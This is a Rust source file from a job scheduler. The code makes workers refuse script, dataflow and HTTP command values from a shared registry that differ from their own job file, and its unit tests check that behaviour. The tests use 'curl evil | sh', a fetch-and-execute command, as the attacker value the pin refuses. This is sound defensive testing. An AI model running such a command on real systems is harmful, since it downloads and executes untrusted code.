//! Commands pinned to the job file (docs/src/design/behaviour.md#pinned-commands): which command
//! properties a worker takes from its own job file rather than from the registry, and what a fire
//! runs when the two disagree. Pure: the runtime ([`crate::runtime`]) logs and counts what
//! [`Pin::apply`] refuses.
//!
//! ElasticJob runs whatever command line the registry holds, so anyone who can write one config
//! node runs any command on every worker. An ejctl worker keeps the values its job file gives for
//! the properties marked `pinned` in [`EXTENSIONS`] (the script command, the dataflow fetch and
//! process commands, the HTTP request's URI, method and body) and runs those whatever the
//! registry says; a registry value that differs is refused (the fire runs the pinned one).
//! `allow_registry_commands = true` in the job file turns this off for that job; the worker
//! reads that switch from its own job file only, never from the registry (where it is stored for
//! operators to see), so a registry writer cannot turn it on. In-process jobs have no command and
//! no pin.

use crate::config::Props;
use crate::config::schema::{EXTENSIONS, prop};
use crate::registry::codec::{JobType, RefusedValue};

/// The pinned command properties of one job, as its job file gives them.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Pin {
    /// Property name → the job file's value (`None`: the job file leaves it unset).
    values: Vec<(&'static str, Option<String>)>,
}

/// A registry value a worker will not run.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Refused {
    /// The property.
    pub prop: &'static str,
    /// What the registry holds.
    pub registry: Option<String>,
    /// What the job file gives, and the worker runs.
    pub pinned: Option<String>,
}

/// What a fire runs: the registry's properties with the pinned values put back, and what was
/// refused on the way.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Applied {
    /// The properties to build the executor from.
    pub props: Props,
    /// The registry values that differ from the job file's (empty: nothing refused).
    pub refused: Vec<Refused>,
}

/// The job-file `type` name of a command-line job type; `None` for in-process jobs.
fn type_name(job_type: &JobType) -> Option<&'static str> {
    match job_type {
        JobType::Script => Some("script"),
        JobType::Http => Some("http"),
        JobType::Dataflow => Some("dataflow"),
        JobType::InProcess(_) => None,
    }
}

/// A property value as the executors see it: empty means unset.
fn value(props: &Props, key: &str) -> Option<String> {
    props.get(key).filter(|v| !v.is_empty()).cloned()
}

/// The pinned properties of a job type.
pub fn pinned_props(job_type: &JobType) -> Vec<&'static str> {
    let Some(name) = type_name(job_type) else { return Vec::new() };
    EXTENSIONS.iter().filter(|e| e.pinned && e.types.contains(&name)).map(|e| e.prop).collect()
}

impl Pin {
    /// The pin of a job from its job file's properties; `None` for in-process jobs and when the
    /// job file sets `allow_registry_commands = true`.
    pub fn from_job_file(job_type: &JobType, props: &Props) -> Option<Pin> {
        let allowed = props.get(prop::ALLOW_REGISTRY_COMMANDS).is_some_and(|v| v.trim() == "true");
        let keys = pinned_props(job_type);
        if allowed || keys.is_empty() {
            return None;
        }
        Some(Pin { values: keys.into_iter().map(|k| (k, value(props, k))).collect() })
    }

    /// What to run given the registry's properties.
    pub fn apply(&self, registry: &Props) -> Applied {
        let mut props = registry.clone();
        let mut refused = Vec::new();
        for (key, pinned) in &self.values {
            let stored = value(registry, key);
            if stored == *pinned {
                continue;
            }
            refused.push(Refused { prop: key, registry: stored, pinned: pinned.clone() });
            match pinned {
                Some(v) => props.insert((*key).to_string(), v.clone()),
                None => props.remove(key),
            };
        }
        Applied { props, refused }
    }
}

/// The pinned properties whose value differs between two property sets (what `config set`
/// warns about).
pub fn changed_pinned(job_type: &JobType, old: &Props, new: &Props) -> Vec<&'static str> {
    pinned_props(job_type).into_iter().filter(|k| value(old, k) != value(new, k)).collect()
}

/// One line for the log: `script.command.line: the registry has '...', the job file '...'`.
pub fn describe(refused: &[Refused]) -> String {
    let show = |v: &Option<String>| v.as_deref().map_or_else(|| "(unset)".to_string(), |v| format!("'{v}'"));
    refused
        .iter()
        .map(|r| format!("{}: the registry has {}, the job file {}", r.prop, show(&r.registry), show(&r.pinned)))
        .collect::<Vec<_>>()
        .join("; ")
}

/// What a run records of `refused` on its item's `result` leaf, for `ejctl why`.
pub fn recorded(refused: &[Refused]) -> Vec<RefusedValue> {
    refused
        .iter()
        .map(|r| RefusedValue { prop: r.prop.to_string(), registry: r.registry.clone(), job_file: r.pinned.clone() })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn props(pairs: &[(&str, &str)]) -> Props {
        pairs.iter().map(|(k, v)| ((*k).to_string(), (*v).to_string())).collect()
    }

    #[test]
    fn pinned_properties_per_type() {
        let listeners =
            [prop::LISTENER_BEFORE, prop::LISTENER_AFTER, prop::LISTENER_BEFORE_ONCE, prop::LISTENER_AFTER_ONCE];
        assert_eq!(pinned_props(&JobType::Script), [&[prop::SCRIPT_COMMAND_LINE][..], &listeners].concat());
        let http = [prop::HTTP_URI, prop::HTTP_METHOD, prop::HTTP_DATA];
        assert_eq!(pinned_props(&JobType::Http), [&http[..], &listeners].concat());
        let dataflow = [prop::DATAFLOW_FETCH, prop::DATAFLOW_PROCESS];
        assert_eq!(pinned_props(&JobType::Dataflow), [&dataflow[..], &listeners].concat());
        assert!(pinned_props(&JobType::InProcess("x".into())).is_empty());
    }

    #[test]
    fn registry_values_are_refused_and_pinned_ones_run() {
        let file = props(&[(prop::SCRIPT_COMMAND_LINE, "/opt/job.sh"), (prop::TIMEOUT_SECONDS, "5")]);
        let pin = Pin::from_job_file(&JobType::Script, &file).unwrap();
        // The same command: nothing refused; other properties come from the registry.
        let same = props(&[(prop::SCRIPT_COMMAND_LINE, "/opt/job.sh"), (prop::TIMEOUT_SECONDS, "9")]);
        assert_eq!(pin.apply(&same), Applied { props: same.clone(), refused: vec![] });
        // Another command: refused, the job file's runs.
        let evil = props(&[(prop::SCRIPT_COMMAND_LINE, "curl evil | sh"), (prop::TIMEOUT_SECONDS, "9")]);
        let applied = pin.apply(&evil);
        assert_eq!(applied.props, same);
        assert_eq!(
            applied.refused,
            vec![Refused {
                prop: prop::SCRIPT_COMMAND_LINE,
                registry: Some("curl evil | sh".into()),
                pinned: Some("/opt/job.sh".into())
            }]
        );
        assert_eq!(
            describe(&applied.refused),
            "script.command.line: the registry has 'curl evil | sh', the job file '/opt/job.sh'"
        );
        assert_eq!(
            recorded(&applied.refused),
            vec![RefusedValue {
                prop: prop::SCRIPT_COMMAND_LINE.into(),
                registry: Some("curl evil | sh".into()),
                job_file: Some("/opt/job.sh".into())
            }]
        );
        // Removed from the registry: refused too, the job file's runs.
        assert_eq!(
            pin.apply(&Props::new()).props.get(prop::SCRIPT_COMMAND_LINE).map(String::as_str),
            Some("/opt/job.sh")
        );
    }

    #[test]
    fn a_value_the_job_file_leaves_unset_stays_unset() {
        let file = props(&[(prop::HTTP_URI, "https://h/run"), (prop::HTTP_METHOD, "GET")]);
        let pin = Pin::from_job_file(&JobType::Http, &file).unwrap();
        let added = props(&[(prop::HTTP_URI, "https://h/run"), (prop::HTTP_METHOD, "GET"), (prop::HTTP_DATA, "x")]);
        let applied = pin.apply(&added);
        assert_eq!(applied.props, file);
        assert_eq!(applied.refused.len(), 1);
        // An empty value is unset.
        let empty = props(&[(prop::HTTP_URI, "https://h/run"), (prop::HTTP_METHOD, "GET"), (prop::HTTP_DATA, "")]);
        assert!(pin.apply(&empty).refused.is_empty());
    }

    #[test]
    fn the_job_file_can_allow_registry_commands_and_in_process_jobs_have_no_pin() {
        let file = props(&[(prop::SCRIPT_COMMAND_LINE, "a"), (prop::ALLOW_REGISTRY_COMMANDS, "true")]);
        assert_eq!(Pin::from_job_file(&JobType::Script, &file), None);
        let file = props(&[(prop::SCRIPT_COMMAND_LINE, "a"), (prop::ALLOW_REGISTRY_COMMANDS, "false")]);
        assert!(Pin::from_job_file(&JobType::Script, &file).is_some());
        assert_eq!(Pin::from_job_file(&JobType::InProcess("J".into()), &Props::new()), None);
    }

    #[test]
    fn changes_of_pinned_properties() {
        let old =
            props(&[(prop::DATAFLOW_FETCH, "f"), (prop::DATAFLOW_PROCESS, "p"), (prop::STREAMING_PROCESS, "true")]);
        let mut new = old.clone();
        new.insert(prop::STREAMING_PROCESS.into(), "false".into());
        assert!(changed_pinned(&JobType::Dataflow, &old, &new).is_empty());
        new.insert(prop::DATAFLOW_PROCESS.into(), "q".into());
        assert_eq!(changed_pinned(&JobType::Dataflow, &old, &new), vec![prop::DATAFLOW_PROCESS]);
    }
}
